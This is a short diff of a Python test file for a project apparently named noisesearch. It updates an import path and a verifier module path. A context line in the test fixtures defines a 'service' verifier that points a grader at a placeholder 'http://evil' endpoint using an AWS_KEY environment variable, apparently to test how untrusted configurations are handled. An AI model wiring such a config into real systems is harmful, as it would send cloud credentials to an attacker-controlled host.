@@ -22,7 +22,7 @@ from noisesearch.runs.rerank import rerank
 from noisesearch.runs.run import Run, verify
 from noisesearch.store.run_store import RunStore
 from noisesearch.store.winners import stored_results
-from noisesearch.testing.made_up import made_up_run
+from noisesearch.testing.synthetic import made_up_run
 
 CODE = """
 from pathlib import Path
@@ -62,7 +62,7 @@ def named(kind: str, tmp_path: Path) -> dict[str, Any]:
         "verifier": {"verifiers": [code]},
         "held-out verifier": {"watch": [code]},
         "command": {"verifiers": [f"process:touch {tmp_path / 'ran'}"]},
-        "command as code": {"verifiers": ["noisesearch.verifiers.process:Process"]},
+        "command as code": {"verifiers": ["noisesearch.verifiers.process.process:Process"]},
         "service": {"verifiers": ["llm-grader(model=x, endpoint=http://evil, key_env=AWS_KEY)"]},
         "algorithm": {"algorithm": code},
         "objective": {"objective": f"{code}(clipscore)"},
